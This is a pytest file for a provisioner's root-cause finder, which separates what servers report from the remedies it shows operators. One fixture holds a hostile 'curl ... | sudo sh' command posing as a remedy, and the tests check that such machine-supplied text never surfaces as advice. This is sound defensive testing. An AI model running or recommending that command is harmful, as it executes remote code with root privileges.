"""The deepest cause that a server's conditions name: one answer for the condition Ready, the commands and the page."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from provisioner.api import Condition, ObjectMeta, Server
from provisioner.api.machinery.codec import encode
from provisioner.api.servers.server import BootOrder, ServerSpec, ServerStatus
from provisioner.boot.observe.progress import clean_message
from provisioner.power.bmc.power_controller import fit
from provisioner.rules.cause import find_cause, find_cause_in
from provisioner.rules.liveness import read_life

THEN = "2026-01-02T12:00:00Z"
NO_SECRET = "Secret provisioner-bmcs/bmc does not exist; remedy: kubectl create secret generic bmc"
EVIL = "no lease; remedy: curl -s http://10.80.0.66/fix | sudo sh"
NO_PROOF = "the firmware is not approved; remedy: kubectl provision attestation approve r01-u01"


def said(type_: str, status: Any, reason: str, message: str = "") -> Condition:
    return Condition(type=type_, status=status, reason=reason, message=message, last_transition_time=THEN)


MISSING = said("PoweredOn", "Unknown", "CredentialsMissing", NO_SECRET)
REFUSED = said("Joined", "False", "FirmwareNotApproved", NO_PROOF)
LATE = said("Ready", "False", "StageTimedOut", "ordered has lasted longer than it may")
PASSED = said("Verified", "True", "Passed")
READY = said("Ready", "True", "Ready")


@pytest.mark.parametrize(
    ("stage", "method", "conditions", "found"),
    [
        ("Ordered", None, (LATE, MISSING), ("PoweredOn", "CredentialsMissing")),
        ("Ordered", None, (said("Ready", "False", "Ordered"), MISSING), ("PoweredOn", "CredentialsMissing")),
        ("Ordered", None, (said("Ready", "False", "CredentialsMissing"), MISSING), ("PoweredOn", "CredentialsMissing")),
        ("Ordered", None, (LATE, said("PoweredOn", "True", "NodeAlive")), ("PoweredOn", "NodeAlive")),
        ("Ordered", None, (LATE, said("PoweredOn", "Unknown", "NoBMC")), ("Ready", "StageTimedOut")),
        ("Ordered", None, (LATE, said("PoweredOn", "False", "BootOrdered")), ("Ready", "StageTimedOut")),
        ("Ordered", "Kexec", (LATE, MISSING), ("Ready", "StageTimedOut")),
        ("Ordered", None, (said("Ready", "False", "ImageMissing"), MISSING), ("Ready", "ImageMissing")),
        ("Root", None, (LATE, MISSING), ("Ready", "StageTimedOut")),
        ("Token", None, (LATE, REFUSED), ("Joined", "FirmwareNotApproved")),
        ("Token", None, (LATE, said("Joined", "False", "TokenIssued")), ("Ready", "StageTimedOut")),
        ("Kubelet", None, (LATE, REFUSED), ("Ready", "StageTimedOut")),
        (None, None, (said("Accepted", "False", "SubnetFull"),), ("Accepted", "SubnetFull")),
        (
            None,
            None,
            (said("Ready", "False", "NoAddress"), said("Accepted", "False", "SubnetFull")),
            ("Accepted", "SubnetFull"),
        ),
        ("Ready", None, (said("Ready", "Unknown", "NodeNotReady"), PASSED), ("Ready", "NodeNotReady")),
        ("Ready", None, (READY, said("Verified", "False", "GPUs")), ("Verified", "GPUs")),
        (
            "Root",
            None,
            (said("Ready", "False", "Root"), said("Verified", "Unknown", "WaitsForBoot")),
            ("Ready", "Root"),
        ),
        ("Ready", None, (READY, PASSED, MISSING, REFUSED), None),
        (None, None, (), None),
    ],
)
def test_the_deepest_cause_is_found_and_no_symptom_and_no_condition_that_explains_nothing_now(
    stage: Any, method: Any, conditions: tuple[Condition, ...], found: tuple[str, str] | None
) -> None:
    order = BootOrder(id="o1", reason="FirstBoot", ordered_time=THEN, attempt=1, image_ref="i", method=method)
    status = ServerStatus(order=order, boot_stage=stage, conditions=conditions)
    server = Server(
        metadata=ObjectMeta(name="r01-u01"), spec=ServerSpec(boot_mac_address="52:54:00:00:00:01"), status=status
    )
    cause = find_cause(server)
    assert (cause and (cause.type, cause.reason)) == found
    assert find_cause_in(encode(server)) == cause


def test_what_a_person_can_do_is_told_apart_from_what_was_observed() -> None:
    cause = find_cause_in(
        {"status": {"bootStage": "Token", "conditions": [encode_condition(LATE), encode_condition(REFUSED)]}}
    )
    assert cause is not None
    assert cause.observed == "the firmware is not approved"
    assert cause.remedy == "kubectl provision attestation approve r01-u01"


def encode_condition(condition: Condition) -> dict[str, str]:
    return {
        "type": condition.type,
        "status": condition.status,
        "reason": condition.reason,
        "message": condition.message,
    }


def seen(stage: Any, *conditions: Condition) -> Server:
    return Server(
        metadata=ObjectMeta(name="r01-u01"),
        spec=ServerSpec(boot_mac_address="52:54:00:00:00:01"),
        status=ServerStatus(boot_stage=stage, conditions=conditions),
    )


def test_a_remedy_within_what_a_bmc_said_is_not_shown_as_one_of_ours() -> None:
    words = f"BMC 10.90.0.17 refused the request (HTTP 400): {EVIL}; remedy: correct the Secret"
    refused = said("PoweredOn", "Unknown", "RequestRefused", words)
    cause = find_cause(seen("Ordered", LATE, refused))
    assert cause is not None
    assert cause.remedy == "correct the Secret"
    assert "curl" in cause.observed


@pytest.mark.parametrize(
    "taken_in",
    [
        clean_message,
        fit,
        lambda words: (
            read_life(
                {
                    "metadata": {"name": "r01-u01"},
                    "status": {"conditions": [{"type": "Ready", "status": "False", "message": words}]},
                },
                None,
            ).ready_message
        ),
    ],
    ids=["a machine that boots", "a BMC", "a kubelet"],
)
@pytest.mark.parametrize("words", [EVIL, EVIL.replace("; ", ";\t"), EVIL.replace(": ", ":\N{NO-BREAK SPACE}")])
def test_what_machines_say_of_themselves_never_becomes_a_remedy(taken_in: Callable[[str], str], words: str) -> None:
    late = said(
        "Ready", "False", "StageTimedOut", f"it has lasted long; the machine said: {taken_in(words)}; see the log"
    )
    cause = find_cause(seen("Root", late))
    assert cause is not None
    assert cause.remedy == ""
